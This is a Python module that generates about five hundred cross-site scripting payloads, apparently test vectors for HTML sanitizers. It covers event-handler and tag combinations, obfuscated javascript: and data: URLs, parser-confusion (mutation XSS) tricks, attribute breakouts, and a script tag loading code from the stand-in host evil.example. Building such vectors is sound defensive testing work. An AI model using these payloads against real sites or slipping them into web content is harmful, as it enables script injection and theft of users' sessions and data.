"""Five hundred ways to get a script, a handler or an address that runs past a cleaner."""

from __future__ import annotations

import html
from itertools import product

_RUN = "alert(1)"
_HANDLERS = (
    "onload", "onerror", "onfocus autofocus", "ontoggle open", "onmouseover", "onbegin",
    "onanimationstart", "onpointerenter", "oncontentvisibilityautostatechange", "onbeforetoggle",
)  # fmt: skip
_TAGS = (
    "img src=x", "svg", "body", "input", "details", "video src=x", "audio src=x", "marquee", "math",
    "object data=x", "iframe", "a href=x", "p", "select", "custom-tag",
)  # fmt: skip
_SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "\x01javascript:alert(1)", " javascript:alert(1)", "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)", "&#x6A&#x61vascript:alert(1)", "javascript://x/%0Aalert(1)",
    "vbscript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg/onload=x>",
    "blob:https://evil.example/x", "view-source:javascript:alert(1)", "file:///etc/passwd",
    "feed:javascript:alert(1)", "livescript:alert(1)", "jar:javascript:alert(1)!/",
)  # fmt: skip
_CARRIERS = (
    "<a href='@'>x</a>", "<img src='@'>", "<img srcset='@ 1x'>", "<video poster='@'></video>",
    "<iframe src='@'></iframe>", "<form action='@'><button>x</button></form>",
    "<svg><a xlink:href='@'><text>x</text></a></svg>", "<blockquote cite='@'>x</blockquote>",
    "<base href='@'><p>x</p>", "<object data='@'></object>", "<embed src='@'>",
    "<link rel=stylesheet href='@'>", "<meta http-equiv=refresh content='0;url=@'>",
    "<p style=\"background:url('@')\">x</p>", "@",
)  # fmt: skip
_WHOLE = (
    f"<script>{_RUN}</script>", f"<ScRiPt >{_RUN}</sCrIpT>", f"<script/x>{_RUN}</script>",
    f"<<script>{_RUN}//<</script>", f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>", f"<svg><script>{_RUN}</script></svg>",
    f"<svg><style><img src=x onerror={_RUN}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><script>{_RUN}</script></template>", f"<!--><script>{_RUN}</script>-->",
    f"<!--[if IE]><script>{_RUN}</script><![endif]-->", f"<![CDATA[<script>{_RUN}</script>]]>",
    f"</title><script>{_RUN}</script>", f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>", f"]]><script>{_RUN}</script>",
    f"\"><script>{_RUN}</script>", f"'><script>{_RUN}</script>", f"\" onmouseover=\"{_RUN}",
    f"' onfocus='{_RUN}' autofocus='", f"` onerror={_RUN} `",
    f"<style>@import 'javascript:{_RUN}';",
    f"<xmp><p title=\"</xmp><img src=x onerror={_RUN}>\">", f"<a/onclick={_RUN}>x</a>",
    f"<img\x0csrc=x\x0conerror={_RUN}>", f"<svg/onload={_RUN}", f"<img src=x onerror={_RUN}//",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
)  # fmt: skip


def _made() -> list[str]:
    handled = [f"<{tag} {name}={_RUN}>x" for tag, name in product(_TAGS, _HANDLERS)]
    carried = [one.replace("@", scheme) for one, scheme in product(_CARRIERS, _SCHEMES)]
    plain = [*_WHOLE, *handled, *carried]
    # What a source escapes once too often comes to life when it is unescaped once too often.
    return [*plain, *map(html.escape, _WHOLE)]


VECTORS = tuple(_made())
